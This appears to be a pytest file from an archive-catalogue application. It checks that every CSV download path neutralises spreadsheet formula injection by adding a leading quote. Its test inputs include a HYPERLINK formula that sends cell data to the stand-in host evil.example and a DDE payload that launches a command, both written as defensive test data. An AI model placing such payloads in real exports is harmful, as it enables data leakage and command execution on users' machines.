"""CSV downloads neutralise spreadsheet formulas (OWASP CSV injection) in every writer."""

import csv
import io
from decimal import Decimal
from types import SimpleNamespace

import pytest

from archivo import csv_safe
from archivo.catalog import cadido
from archivo.catalog import service as catalog
from archivo.instruments import samples
from archivo.instruments.layout import load_layout
from archivo.instruments.opendata import fields_csv, to_csv
from archivo.search import public
from tests import factories as f

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Ver")'


@pytest.mark.parametrize("value", [
    ATTACK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "--1", "+52 55",
])
def test_formula_cells_get_a_leading_quote(value):
    assert csv_safe.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", [
    "-", "-5", "+52", "-1,234.50", "12.5", "Acta AB-0042", "4C.3", "2024-01-15", "", None,
    -3, 2.5, Decimal("-1.50"), True,
])
def test_legitimate_values_are_kept(value):
    assert csv_safe.neutralise(value) == value


def test_other_objects_are_written_as_their_text():
    assert csv_safe.neutralise(SimpleNamespace) == str(SimpleNamespace)


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_writer_and_dictwriter_neutralise_every_row():
    out = io.StringIO()
    w = csv_safe.writer(out, lineterminator="\r\n")
    w.writerow(["a", ATTACK, -4])
    w.writerows([["=1", "ok"]])
    assert out.getvalue().endswith("\r\n")
    assert _read(out.getvalue()) == [["a", "'" + ATTACK, "-4"], ["'=1", "ok"]]
    out = io.StringIO()
    w = csv_safe.DictWriter(out, fieldnames=["x", "y"], extrasaction="ignore")
    w.writeheader()
    w.writerow({"x": "@x", "y": None, "z": "ignored"})
    assert _read(out.getvalue()) == [["x", "y"], ["'@x", ""]]


def test_public_lookup_download(app):
    hits = [SimpleNamespace(id=7, fields={"clave": "-", "titulo": ATTACK, "anio": 2015})]
    with app.test_request_context("/api/v1/public/search?format=csv"):
        resp = public.download(hits, "csv", 1)
    rows = list(csv.DictReader(io.StringIO(resp.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[0]["titulo"] == "'" + ATTACK
    assert rows[0]["clave"] == "-" and rows[0]["anio"] == "2015"


def test_instrument_open_data():
    layout = load_layout("cadido")
    header, rows, _closing = samples.demo("cadido")
    rows = [dict(rows[1], codigo=ATTACK)]
    table = _read(to_csv(layout, rows).decode("utf-8"))
    assert table[1][0] == "'" + ATTACK
    form = load_layout("caratula")
    key = form.header[0].key
    table = _read(fields_csv(form, {key: ATTACK}).decode("utf-8"))
    assert table[1][2] == "'" + ATTACK


def test_public_catalogue_downloads(client, db):
    ctx = f.fondo()
    serie = catalog.create_serie(ctx["actor"], ctx["fondo"].id,
                         {"codigo": "4C.4", "nombre": "=1+1 Nómina"})
    v = cadido.create_version(ctx["actor"], ctx["fondo"].id, {})
    cadido.set_regla(ctx["actor"], v.id, f.regla_data(ctx["serie"].id, observaciones=ATTACK))
    cadido.set_regla(ctx["actor"], v.id, f.regla_data(serie.id))
    cadido.approve_version(ctx["actor"], v.id, {"fecha_aprobacion": "2024-02-01",
                                                "acta_gi": "GI/02/2024"})
    cgca = client.get("/consulta/cgca.csv").get_data(as_text=True)
    assert "'=1+1 Nómina" in cgca and ",=1+1" not in cgca
    rows = list(csv.DictReader(io.StringIO(
        client.get("/consulta/cadido.csv").get_data(as_text=True).lstrip("\ufeff"))))
    assert {r["serie_codigo"]: r["observaciones"] for r in rows}["4C.3"] == "'" + ATTACK
